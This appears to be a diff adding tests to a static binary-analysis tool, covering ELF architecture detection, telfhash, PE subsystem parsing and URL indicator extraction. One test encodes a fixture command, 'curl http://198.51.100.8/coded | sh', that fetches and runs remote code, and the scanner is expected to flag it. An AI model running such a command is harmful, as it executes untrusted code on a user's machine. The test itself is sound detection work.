@@ -3,11 +3,14 @@
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import re
 import struct
 from pathlib import Path
+from types import SimpleNamespace
 
+import lief
 import msgspec
 import pytest
 import setuptools
@@ -15,6 +18,7 @@ import setuptools
 from mead.analysis.analyser import Artifact, Report
 from mead.analysis.registry import ANALYSERS
 from mead.analysis.settings import AnalysisSettings
+from mead.analysis.static import elf
 
 LAUNCHER = Path(setuptools.__file__).parent / "cli-32.exe"
 
@@ -84,6 +88,54 @@ def test_elf_facts(settings: AnalysisSettings) -> None:
     assert re.fullmatch(r"t1[0-9a-f]{70}", values["hash.telfhash"] or "")
 
 
+@pytest.mark.parametrize(
+    ("machine", "bits", "order", "expected"),
+    [
+        (40, 32, "<", "arm 32-bit little-endian"), (8, 32, ">", "mips 32-bit big-endian"),
+        (8, 32, "<", "mips 32-bit little-endian"), (20, 32, ">", "ppc 32-bit big-endian"),
+        (42, 32, "<", "sh 32-bit little-endian"), (4, 32, ">", "m68k 32-bit big-endian"),
+        (2, 32, ">", "sparc 32-bit big-endian"), (93, 32, "<", "arc_compact 32-bit little-endian"),
+        (3, 32, "<", "i386 32-bit little-endian"), (62, 64, "<", "x86_64 64-bit little-endian"),
+        (183, 64, "<", "aarch64 64-bit little-endian"), (243, 64, "<", "riscv 64-bit little-endian"),
+        (0x9026, 64, "<", "alpha_alt 64-bit little-endian"), (0xBEEF, 32, ">", "0xbeef 32-bit big-endian"),
+    ],
+)  # fmt: skip
+def test_elf_of_every_architecture(
+    machine: int, bits: int, order: str, expected: str, settings: AnalysisSettings
+) -> None:
+    values = _values(_look("elf", _elf(machine, bits, order), settings))
+    assert values["elf.architecture"] == expected
+    assert (values["elf.linked"], values["elf.stripped"]) == ("static", "true")
+
+
+def _elf(machine: int, bits: int, order: str) -> bytes:
+    """The headers of a static program without sections, as devices get them."""
+    mark = b"\x7fELF" + bytes((bits // 32, 1 if order == "<" else 2, 1)) + bytes(9)
+    if bits == 32:
+        head = struct.pack(order + "HHIIIIIHHHHHH", 2, machine, 1, 0x10054, 52, 0, 0, 52, 32, 1, 40, 0, 0)
+        load = struct.pack(order + "8I", 1, 0, 0x10000, 0x10000, 284, 284, 5, 4096)
+    else:
+        head = struct.pack(order + "HHIQQQIHHHHHH", 2, machine, 1, 0x10078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
+        load = struct.pack(order + "IIQQQQQQ", 1, 5, 0, 0x10000, 0x10000, 320, 320, 4096)
+    return mark + head + load + bytes(200)
+
+
+def test_telfhash_counts_a_name_for_each_of_its_versions() -> None:
+    function, binding = lief.ELF.Symbol.TYPE.FUNC, lief.ELF.Symbol.BINDING.GLOBAL
+    visible = lief.ELF.Symbol.VISIBILITY.DEFAULT
+    names = ("Beta", "alpha", "alpha", "strcpy", "_start", "main", "lseek64")
+    table = [SimpleNamespace(name=name, type=function, binding=binding, visibility=visible) for name in names]
+    program = SimpleNamespace(dynamic_symbols=table, symtab_symbols=[])
+    assert elf.telfhash_text(program) == "alpha,alpha,beta"
+
+
+def test_headers_with_numbers_that_nobody_knows_are_facts(settings: AnalysisSettings) -> None:
+    data = bytearray(LAUNCHER.read_bytes())
+    at = struct.unpack_from("<I", data, 60)[0]
+    struct.pack_into("<H", data, at + 24 + 68, 0x7777)
+    assert _values(_look("pe", bytes(data), settings))["pe.subsystem"] == "0x7777"
+
+
 def test_elf_overlay_and_damage(settings: AnalysisSettings) -> None:
     data = Path("/bin/true").resolve().read_bytes()
     assert "overlay" in _values(_look("elf", data + b"x" * 3000, settings))
@@ -102,6 +154,22 @@ def test_strings_and_indicators(settings: AnalysisSettings) -> None:
         ("url", "http://wide.example.com/a"),
     } <= found
     assert any(finding.claim == "strings.telling" for finding in report.findings)
+
+
+def test_encoded_places_are_found_where_they_hide(settings: AnalysisSettings) -> None:
+    wide = "GET http://198.51.100.9/wide".encode("utf-16-le")
+    text = b"\0\0" + wide + b"\xff" + base64.b64encode(b"curl http://198.51.100.8/coded | sh") + b"\xff"
+    report = _look("strings", text, settings)
+    places = {i.indicator: i.offset for i in report.indicators if i.indicator_kind == "url"}
+    assert places == {"http://198.51.100.9/wide": 2 + 2 * 4, "http://198.51.100.8/coded": len(wide) + 3}
+
+
+def test_schemas_are_a_fact_and_no_indicator(settings: AnalysisSettings) -> None:
+    text = b'<a xmlns="http://www.w3.org/2000/svg" href="http://schemas.openxmlformats.org/x"/>'
+    report = _look("strings", text, settings)
+    assert not report.indicators
+    (cited,) = [finding for finding in report.findings if finding.claim == "strings.cited"]
+    assert cited.value == "2"
 
 
 def test_strings_say_when_they_stop(settings: AnalysisSettings) -> None:
